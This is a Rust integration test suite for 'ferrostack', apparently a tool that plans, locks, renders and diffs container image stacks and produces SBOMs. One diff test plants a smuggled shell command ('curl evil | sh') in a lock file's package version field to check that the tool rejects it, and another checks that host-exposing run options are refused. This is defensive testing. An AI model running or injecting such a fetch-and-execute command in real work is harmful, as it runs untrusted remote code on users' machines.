//! Runs the real `ferrostack` binary in a temporary copy of a test project and checks whole
//! outputs and exit codes.

mod common;

use common::{copy_dir, stderr, stdout};

use std::path::{Path, PathBuf};
use std::process::Output;

use assert_cmd::Command;

fn fixture() -> (tempfile::TempDir, PathBuf) {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("project");
    copy_dir(
        &Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/tree"),
        &root,
    );
    (tmp, root)
}

fn ferrostack(root: &Path, args: &[&str]) -> Output {
    Command::cargo_bin("ferrostack")
        .unwrap()
        .env_remove("FERROSTACK_REPOSITORY")
        .env_remove("FERROSTACK_CA_BUNDLE")
        .arg("-C")
        .arg(root)
        .args(args)
        .output()
        .unwrap()
}

/// Hashes differ per change; snapshots show them as `<hash>`.
fn redact(text: &str) -> String {
    let re_like = |s: &str| -> String {
        s.split_inclusive(char::is_whitespace)
            .map(|w| {
                let t = w.trim_end();
                if t.len() == 12 && t.chars().all(|c| c.is_ascii_hexdigit()) {
                    w.replacen(t, "<hash>", 1)
                } else {
                    w.to_string()
                }
            })
            .collect()
    };
    re_like(text)
}

#[test]
fn plan_without_lock_builds_everything_in_order() {
    let (_t, root) = fixture();
    let out = ferrostack(&root, &["plan", "--offline"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    insta::assert_snapshot!(redact(&stdout(&out)), @r"
    build      root   <hash>
                      - not in lock
    build      app    <hash>
                      - not in lock
    build      tools  <hash>
                      - not in lock
    build      leaf   <hash>
                      - not in lock
    4 to build, 0 up-to-date
    ");
}

#[test]
fn lock_then_plan_is_up_to_date_and_edits_explain_themselves() {
    let (_t, root) = fixture();
    assert_eq!(ferrostack(&root, &["lock"]).status.code(), Some(0));
    let lock_text = std::fs::read_to_string(root.join("images.lock")).unwrap();
    assert!(lock_text.starts_with("# images.lock"));
    assert!(
        !lock_text.contains(root.to_str().unwrap()),
        "no machine-specific paths in the lock"
    );
    let out = ferrostack(&root, &["plan", "--offline", "--locked"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(
        stdout(&out).ends_with("0 to build, 4 up-to-date\n"),
        "{}",
        stdout(&out)
    );

    // A context file, a template override and a definition edit, each explained.
    std::fs::write(root.join("stacks/app/files/hello.txt"), "hello!\n").unwrap();
    std::fs::create_dir_all(root.join("templates/partials")).unwrap();
    let bundled = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("templates/partials/step_apt.tera"),
    )
    .unwrap();
    std::fs::write(
        root.join("templates/partials/step_apt.tera"),
        format!("{bundled}# site policy\n"),
    )
    .unwrap();
    let out = ferrostack(&root, &["plan", "--offline"]);
    assert_eq!(out.status.code(), Some(0));
    insta::assert_snapshot!(redact(&stdout(&out)), @r"
    up-to-date root   <hash>
    build      app    <hash>
                      - file `files/hello.txt` changed
    build      tools  <hash>
                      - template `partials/step_apt.tera` changed
    build      leaf   <hash>
                      - parent `app` rebuilt
    3 to build, 1 up-to-date
    ");

    let out = ferrostack(&root, &["plan", "--offline", "--locked"]);
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    assert!(
        err.contains("images.lock would change, and `--locked` forbids it"),
        "{err}"
    );
    assert!(err.contains("app: file `files/hello.txt` changed"), "{err}");
}

#[test]
fn plan_json_is_machine_readable() {
    let (_t, root) = fixture();
    let out = ferrostack(&root, &["plan", "--offline", "--json", "leaf"]);
    assert_eq!(out.status.code(), Some(0));
    let v: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
    let names: Vec<&str> = v["stacks"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["name"].as_str().unwrap())
        .collect();
    assert_eq!(
        names,
        ["root", "app", "leaf"],
        "a selected stack brings its ancestors"
    );
    assert_eq!(v["stacks"][2]["action"], "build");
    assert_eq!(v["stacks"][2]["reasons"][0]["reason"], "not-in-lock");
    assert!(v["stacks"][2]["hash"]
        .as_str()
        .unwrap()
        .starts_with("sha256:"));
}

#[test]
fn render_writes_dockerfile_and_context_and_check_detects_drift() {
    let (_t, root) = fixture();
    let out = ferrostack(&root, &["render", "--check"]);
    assert_eq!(out.status.code(), Some(1), "nothing rendered yet");
    assert!(
        stderr(&out).contains("rendered/app/Dockerfile is missing"),
        "{}",
        stderr(&out)
    );
    assert_eq!(ferrostack(&root, &["render"]).status.code(), Some(0));
    assert!(root.join("rendered/app/Dockerfile").is_file());
    assert_eq!(
        std::fs::read_to_string(root.join("rendered/app/files/hello.txt")).unwrap(),
        "hello\n"
    );
    assert!(
        !root.join("rendered/app/notes.md").exists(),
        ".dockerignore is honoured"
    );
    let out = ferrostack(&root, &["render", "--check"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    std::fs::write(
        root.join("stacks/leaf.toml"),
        std::fs::read_to_string(root.join("stacks/leaf.toml"))
            .unwrap()
            .replace("hello", "bye"),
    )
    .unwrap();
    let out = ferrostack(&root, &["render", "--check"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains("rendered/leaf/Dockerfile differs"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn bundled_catalogue_committed_renders_are_current() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let out = ferrostack(root, &["render", "--check"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
}

#[test]
fn exit_codes() {
    let (_t, root) = fixture();
    // Usage error.
    assert_eq!(
        ferrostack(&root, &["plan", "--no-such-flag"]).status.code(),
        Some(2)
    );
    // Unknown stack.
    let out = ferrostack(&root, &["plan", "laef"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("did you mean `leaf`?"),
        "{}",
        stderr(&out)
    );
    // Definition error.
    std::fs::write(
        root.join("stacks/bad.toml"),
        "name = \"bad\"\nfrom = \"nope\"\n",
    )
    .unwrap();
    let out = ferrostack(&root, &["list"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out)
            .contains("stacks/bad.toml:2:8: stack `bad` names parent `nope`, which is not defined"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn list_and_graph() {
    let (_t, root) = fixture();
    let out = ferrostack(&root, &["list", "--json"]);
    let v: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
    assert_eq!(v[1]["name"], "app");
    assert_eq!(v[1]["parent"], "root");
    assert_eq!(v[1]["tags"][0], "app-3.11");
    assert_eq!(v[1]["source"], "stacks/app.toml");
    let out = ferrostack(&root, &["graph"]);
    insta::assert_snapshot!(stdout(&out), @r"
    root
    ├── app
    │   └── leaf
    └── tools
    ");
    let out = ferrostack(&root, &["graph", "--format", "dot"]);
    assert!(stdout(&out).contains("\"app\" -> \"leaf\";"));
    let out = ferrostack(&root, &["graph", "--format", "mermaid"]);
    assert!(stdout(&out).contains("app[app] --> leaf[leaf]"));
}

#[test]
fn every_subcommand_has_help() {
    for sub in ["list", "render", "plan", "graph", "lock", "diff"] {
        let out = Command::cargo_bin("ferrostack")
            .unwrap()
            .args([sub, "--help"])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(0), "{sub}");
        assert!(stdout(&out).contains("Usage: ferrostack"), "{sub}");
    }
}

#[test]
fn plan_asks_the_engine_whether_locked_images_exist() {
    // Needs a Docker engine (scripts/test starts one); without it the reason is missing.
    let (_t, root) = fixture();
    assert_eq!(ferrostack(&root, &["lock"]).status.code(), Some(0));
    let out = ferrostack(&root, &["plan"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(
        !stderr(&out).contains("warning"),
        "an engine answers: {}",
        stderr(&out)
    );
    insta::assert_snapshot!(redact(&stdout(&out)), @r"
    build      root   <hash>
                      - image not in engine
    build      app    <hash>
                      - parent `root` rebuilt
                      - image not in engine
    build      tools  <hash>
                      - parent `root` rebuilt
                      - image not in engine
    build      leaf   <hash>
                      - parent `app` rebuilt
                      - image not in engine
    4 to build, 0 up-to-date
    ");
}

#[test]
fn committed_lock_covers_the_bundled_catalogue() {
    // images.lock is written by a real `ferrostack build` of the catalogue. It is not required
    // to be current at every commit (a media crate change makes the ffmpeg entry stale until the
    // next build); `ferrostack plan --locked` is the check a release job runs.
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let lock: toml::Value =
        toml::from_str(&std::fs::read_to_string(root.join("images.lock")).unwrap()).unwrap();
    for stack in [
        "base-bookworm",
        "base-trixie",
        "python-bookworm",
        "python-trixie",
        "node",
        "ruby",
        "php",
        "go",
        "java",
        "ffmpeg",
    ] {
        let entry = &lock["stacks"][stack];
        assert!(
            entry["hash"].as_str().unwrap().starts_with("sha256:"),
            "{stack}"
        );
        assert!(entry["size"].as_integer().unwrap() > 0, "{stack} was built");
    }
    assert!(lock["stacks"]["ffmpeg"]["runtimes"]["ffmpeg"]
        .as_str()
        .unwrap()
        .starts_with("ffmpeg version 5.1"));
}

#[test]
fn lifecycle_eol_is_not_built_and_deprecated_warns() {
    let (_t, root) = fixture();
    let tools = root.join("stacks/tools.toml");
    std::fs::write(
        &tools,
        "name = \"tools\"\nfrom = \"root\"\nstatus = \"eol\"\n[[step]]\napt = [\"jq\"]\n",
    )
    .unwrap();
    std::fs::write(
        root.join("stacks/leaf.toml"),
        "name = \"leaf\"\nfrom = \"app\"\nstatus = \"deprecated\"\n",
    )
    .unwrap();
    let out = ferrostack(&root, &["plan", "--offline"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    insta::assert_snapshot!(redact(&stdout(&out)), @r"
    build      root   <hash>
                      - not in lock
    build      app    <hash>
                      - not in lock
    eol        tools  <hash>
    build      leaf   <hash>  (deprecated)
                      - not in lock
    3 to build, 0 up-to-date, 1 eol
    ");
    assert!(
        stderr(&out).contains("warning: stack `leaf` is deprecated (stacks/leaf.toml)"),
        "{}",
        stderr(&out)
    );
}

/// Issue 9: a reader that stops early (`ferrostack list --json | head -c1`) must not make
/// ferrostack panic. The pipe's read end is closed before ferrostack writes, so the write fails
/// with EPIPE every time (a real `head` races with the writer).
#[test]
fn closed_stdout_ends_quietly() {
    let (_t, root) = fixture();
    for args in [
        &["list", "--json"][..],
        &["list"],
        &["plan", "--offline"],
        &["graph"],
    ] {
        let (reader, writer) = std::io::pipe().unwrap();
        drop(reader);
        let out = std::process::Command::new(assert_cmd::cargo::cargo_bin("ferrostack"))
            .env_remove("FERROSTACK_REPOSITORY")
            .env_remove("FERROSTACK_CA_BUNDLE")
            .arg("-C")
            .arg(&root)
            .args(args)
            .stdout(writer)
            .stderr(std::process::Stdio::piped())
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(0), "{args:?}: {}", stderr(&out));
        assert_eq!(stderr(&out), "", "{args:?}");
    }
}

/// Issue 9: a duration past what the clock can hold is a usage error (exit 2), not a panic.
#[test]
fn absurd_timeout_is_a_usage_error() {
    let (_t, root) = fixture();
    let out = ferrostack(
        &root,
        &[
            "run",
            "app",
            "--timeout",
            "99999999999999999999h",
            "--",
            "true",
        ],
    );
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("`99999999999999999999h` is too long a duration"),
        "{}",
        stderr(&out)
    );
    assert!(!stderr(&out).contains("panicked"), "{}", stderr(&out));
}

/// The committed `images.lock` matches the committed definitions, templates and media helper
/// (a stale lock fails the test command with the stack and the reason).
#[test]
fn the_committed_lock_is_current() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let out = ferrostack(root, &["--locked", "plan", "--offline"]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "images.lock is stale: run `ferrostack build` and commit it.\n{}{}",
        stdout(&out),
        stderr(&out)
    );
}

/// Issue 11: limits the engine would misread (`--memory 0` is no limit to it) and mounts that
/// would hand over the host are usage errors (exit 2), said before any engine is asked.
#[test]
fn run_refuses_unsafe_limits_and_mounts() {
    let (_t, root) = fixture();
    let mut all = String::new();
    for args in [
        &["--memory", "0"][..],
        &["--memory", "4m"],
        &["--timeout", "0"],
        &["--timeout", "100000h"],
        &["--pids", "0"],
        &["--network", "host"],
        &["--mount", "/"],
        &["--mount", "/proc/self"],
    ] {
        let mut command = vec!["run", "app"];
        command.extend_from_slice(args);
        command.extend_from_slice(&["--", "true"]);
        let out = ferrostack(&root, &command);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {}", stderr(&out));
        all.push_str(&format!(
            "$ ferrostack {}\n{}\n",
            command.join(" "),
            stderr(&out).trim_end()
        ));
    }
    insta::assert_snapshot!("run_usage_errors", all);
}

/// Issue 10: `plan --simulate` replays a full build with the times the lock recorded; a stack
/// without one is estimated and marked.
#[test]
fn plan_simulate_prints_each_engines_timeline_and_the_makespan() {
    let (_t, root) = fixture();
    assert_eq!(ferrostack(&root, &["lock"]).status.code(), Some(0));
    let lock_path = root.join("images.lock");
    let mut lock = std::fs::read_to_string(&lock_path).unwrap();
    for (stack, seconds) in [("root", "30.0"), ("app", "20.5"), ("tools", "12.0")] {
        let header = format!("[stacks.{stack}]\n");
        lock = lock.replacen(&header, &format!("{header}build_seconds = {seconds}\n"), 1);
    }
    std::fs::write(&lock_path, lock).unwrap();
    let out = ferrostack(&root, &["plan", "--simulate", "2x2", "--offline"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    insta::assert_snapshot!(stdout(&out), @r"
    simulated full build of 4 stacks on 2 engines × 2 slots; parents pulled at 100.0 MB/s
    engine 1
      slot 1     0.0 –   30.0  root     30.0 s
      slot 1    30.0 –   50.5  app      20.5 s
      slot 1    50.5 –   71.0  leaf*    20.5 s
      slot 2    30.0 –   42.0  tools    12.0 s
    engine 2: idle
    makespan: 71.0 s
    critical path: 71.0 s (root 30.0 s → app 20.5 s → leaf 20.5 s)
    work: 83.0 s of builds on 4 slots
    the makespan is the critical path: more engines or slots do not shorten it; a shorter chain does
    * no build time recorded in images.lock: estimated (the median of the recorded ones; 60.0 s when none is)
    ");

    let out = ferrostack(&root, &["plan", "--simulate", "2x2", "--json", "leaf"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let v: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
    assert_eq!(
        (
            v["engines"].as_u64(),
            v["slots"].as_u64(),
            v["makespan"].as_f64()
        ),
        (Some(2), Some(2), Some(71.0))
    );
    let runs: Vec<(&str, bool)> = v["runs"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            (
                r["stack"].as_str().unwrap(),
                r["estimated"].as_bool().unwrap(),
            )
        })
        .collect();
    assert_eq!(runs, [("root", false), ("app", false), ("leaf", true)]);
}

#[test]
fn plan_simulate_needs_engines_and_slots_from_one() {
    let (_t, root) = fixture();
    for (shape, message) in [
        ("0", "`0` asks for zero engines"),
        ("x", "`x` is not ENGINES[xSLOTS] (e.g. `4` or `4x2`)"),
        ("2x0", "`2x0` asks for zero slots"),
    ] {
        let out = ferrostack(&root, &["plan", "--simulate", shape]);
        assert_eq!(out.status.code(), Some(2), "{shape}: {}", stderr(&out));
        assert!(stderr(&out).contains(message), "{shape}: {}", stderr(&out));
    }
    let out = ferrostack(&root, &["plan", "--pull-rate", "1GB/s"]);
    assert_eq!(
        out.status.code(),
        Some(2),
        "--pull-rate goes with --simulate: {}",
        stderr(&out)
    );
}

/// `ferrostack diff` between git revisions of the lock and files: a one-package night named
/// where it happened, JSON, `--exit-code`, an unknown revision and an edited lock refused.
#[test]
fn diff_names_what_changed_between_two_locks() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path();
    let git = |args: &[&str]| {
        let out = std::process::Command::new("git")
            .arg("-C")
            .arg(root)
            .args([
                "-c",
                "user.name=t",
                "-c",
                "user.email=t@example.org",
                "-c",
                "commit.gpgsign=false",
            ])
            .args(args)
            .output()
            .unwrap();
        assert!(out.status.success(), "git {args:?}: {}", stderr(&out));
    };
    let lock = |libssl: &str, size: u64| {
        format!(
            "version = 1\n\n[stacks.base]\nhash = \"sha256:{}\"\nsize = {size}\n\n[stacks.base.closure]\n\"libc6:amd64\" = \"2.36-9+deb12u10 src=glibc\"\n\"libssl3:amd64\" = \"{libssl} src=openssl\"\n\n[stacks.python]\nhash = \"sha256:{}\"\nparent = \"base\"\n\n[stacks.python.closure]\n\"python3:amd64\" = \"3.11.2-1+b1 src=python3-defaults@3.11.2-1\"\n",
            if libssl.ends_with('2') { "aa" } else { "ab" },
            if libssl.ends_with('2') { "ba" } else { "bb" },
        )
    };
    std::fs::write(
        root.join("images.lock"),
        lock("3.0.17-1~deb12u2", 100_000_000),
    )
    .unwrap();
    git(&["init", "-q"]);
    git(&["add", "images.lock"]);
    git(&["commit", "-qm", "last night"]);
    std::fs::write(
        root.join("images.lock"),
        lock("3.0.17-1~deb12u3", 100_400_000),
    )
    .unwrap();

    let out = ferrostack(root, &["diff"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    insta::assert_snapshot!(stdout(&out), @r"
    # What changed: HEAD → working tree

    ## base

    - size: 100.0 MB → 100.4 MB (+400.0 KB)
    - hash: aa → ab
    - libssl3 3.0.17-1~deb12u2 → 3.0.17-1~deb12u3 (openssl)

    ## python

    - hash: ba → bb
    - and 1 package change inherited from its parent
    ");
    let out = ferrostack(root, &["diff", "--json", "--stack", "python"]);
    let json: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
    assert_eq!(
        json["stacks"][0]["packages"][0],
        serde_json::json!({"package": "libssl3:amd64", "source": "openssl", "change": "moved", "from": "3.0.17-1~deb12u2", "to": "3.0.17-1~deb12u3", "inherited": true})
    );
    assert_eq!(
        ferrostack(root, &["diff", "--exit-code"]).status.code(),
        Some(1)
    );
    assert_eq!(
        ferrostack(root, &["diff", "HEAD", "HEAD", "--exit-code"])
            .status
            .code(),
        Some(0)
    );
    // Two files.
    std::fs::write(root.join("old.lock"), lock("3.0.17-1~deb12u2", 100_000_000)).unwrap();
    let out = ferrostack(
        root,
        &[
            "diff",
            &root.join("old.lock").display().to_string(),
            &root.join("images.lock").display().to_string(),
        ],
    );
    assert!(
        stdout(&out).contains("libssl3 3.0.17-1~deb12u2 → 3.0.17-1~deb12u3 (openssl)"),
        "{}",
        stdout(&out)
    );
    // An unknown revision, and a lock whose closure was edited into something else.
    let out = ferrostack(root, &["diff", "no-such-rev"]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("`no-such-rev` is neither a file nor a revision"),
        "{}",
        stderr(&out)
    );
    std::fs::write(
        root.join("images.lock"),
        lock("3.0.17-1~deb12u3; curl evil | sh", 1),
    )
    .unwrap();
    let out = ferrostack(root, &["diff"]);
    assert_ne!(out.status.code(), Some(0));
    assert!(stderr(&out).contains("images.lock"), "{}", stderr(&out));
}

/// The SBOMs of the bundled catalogue, from a lock with closures, validate with independent
/// tools (spdx-tools; cyclonedx-python-lib's strict schema) and are byte-identical when made
/// twice; the FFmpeg stack's lists the helper's crates. Stacks whose committed lock entry has no
/// closure get a small one here (a lock written before closures were recorded).
#[test]
fn sboms_of_the_bundled_catalogue_validate() {
    let repo = Path::new(env!("CARGO_MANIFEST_DIR"));
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path();
    for dir in ["stacks", "templates"] {
        copy_dir(&repo.join(dir), &root.join(dir));
    }
    let mut lock: toml::Table = std::fs::read_to_string(repo.join("images.lock"))
        .unwrap()
        .parse()
        .unwrap();
    for (name, entry) in lock["stacks"].as_table_mut().unwrap().iter_mut() {
        let entry = entry.as_table_mut().unwrap();
        if !entry.contains_key("closure") {
            let closure: toml::Table = if entry
                .get("parent")
                .and_then(|p| p.as_str())
                .is_some_and(|p| !p.starts_with("sha256:"))
            {
                format!("\"{name}-tool:amd64\" = \"1.0-1 src={name}-src@1.0-1\"")
                    .parse()
                    .unwrap()
            } else {
                "\"libc6:amd64\" = \"2.36-9+deb12u10 src=glibc\"\n\"libssl3:amd64\" = \"3.0.17-1~deb12u2 src=openssl\"\n\"vim-tiny:amd64\" = \"2:9.0.1378-2+deb12u2 src=vim\"\n".parse().unwrap()
            };
            entry.insert("closure".into(), toml::Value::Table(closure));
        }
    }
    std::fs::write(root.join("images.lock"), toml::to_string(&lock).unwrap()).unwrap();
    let sbom = |args: &[&str]| {
        Command::cargo_bin("ferrostack")
            .unwrap()
            .env("FERROSTACK_MEDIA_CRATE", repo.join("crates/media"))
            .env("SOURCE_DATE_EPOCH", "1796212800")
            .env_remove("FERROSTACK_NPM_REGISTRY")
            .arg("-C")
            .arg(root)
            .arg("sbom")
            .args(args)
            .output()
            .unwrap()
    };
    let mut files = Vec::new();
    for format in ["spdx", "cyclonedx"] {
        let out = sbom(&["--format", format, "--out", &format!("sbom-{format}")]);
        assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
        files.extend(stdout(&out).lines().map(String::from));
    }
    assert_eq!(
        files.len(),
        2 * lock["stacks"].as_table().unwrap().len(),
        "{files:?}"
    );
    let validated = std::process::Command::new(repo.join("scripts/validate-sbom"))
        .args(&files)
        .output()
        .unwrap();
    assert_eq!(
        validated.status.code(),
        Some(0),
        "{}\n{}",
        stdout(&validated),
        stderr(&validated)
    );
    // Deterministic: the same lock gives the same bytes.
    let first = std::fs::read(root.join("sbom-spdx/ffmpeg.spdx.json")).unwrap();
    let out = sbom(&["ffmpeg", "--out", "-"]);
    assert_eq!(out.stdout, first);
    let doc: serde_json::Value = serde_json::from_slice(&first).unwrap();
    assert_eq!(doc["creationInfo"]["created"], "2026-12-02T12:00:00Z");
    let purls: Vec<&str> = doc["packages"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|p| p["externalRefs"][0]["referenceLocator"].as_str())
        .collect();
    assert!(
        purls.contains(&"pkg:cargo/ffmpeg-next@9.0.0")
            || purls
                .iter()
                .any(|p| p.starts_with("pkg:cargo/ffmpeg-next@")),
        "{purls:?}"
    );
    assert!(
        purls.iter().any(|p| p.starts_with("pkg:deb/debian/libc6@")),
        "{purls:?}"
    );
    assert_eq!(
        doc["externalDocumentRefs"][0]["externalDocumentId"], "DocumentRef-parent",
        "a child refers to its parent's document"
    );
    // npm's release tarball: where it came from, its pinned sha512 and its licence, in both formats.
    let npm = doc["packages"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["name"] == "npm")
        .unwrap_or_else(|| panic!("npm is listed: {doc}"));
    assert_eq!(
        npm["downloadLocation"], "https://registry.npmjs.org/npm/-/npm-9.2.0.tgz",
        "{npm}"
    );
    assert_eq!(npm["licenseDeclared"], "Artistic-2.0", "{npm}");
    assert_eq!(npm["checksums"][0]["algorithm"], "SHA512", "{npm}");
    assert!(
        npm["checksums"][0]["checksumValue"]
            .as_str()
            .unwrap()
            .starts_with("a32a5575a5861c3b95"),
        "{npm}"
    );
    let node = files
        .iter()
        .find(|f| f.contains("sbom-cyclonedx") && f.contains("/node."))
        .expect("the node stack's CycloneDX");
    let node: serde_json::Value = serde_json::from_slice(&std::fs::read(node).unwrap()).unwrap();
    let npm = node["components"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["name"] == "npm")
        .unwrap_or_else(|| panic!("npm is listed: {node}"));
    assert_eq!(
        (
            &npm["hashes"][0]["alg"],
            &npm["externalReferences"][0]["type"]
        ),
        (
            &serde_json::json!("SHA-512"),
            &serde_json::json!("distribution")
        ),
        "{npm}"
    );
    // An invalid document is caught by the validator (the check can fail).
    let mut broken = doc.clone();
    broken["packages"][1]["SPDXID"] = serde_json::json!("not an id");
    std::fs::write(
        root.join("broken.spdx.json"),
        serde_json::to_vec(&broken).unwrap(),
    )
    .unwrap();
    let validated = std::process::Command::new(repo.join("scripts/validate-sbom"))
        .arg(root.join("broken.spdx.json"))
        .output()
        .unwrap();
    assert_eq!(validated.status.code(), Some(1), "{}", stdout(&validated));
}
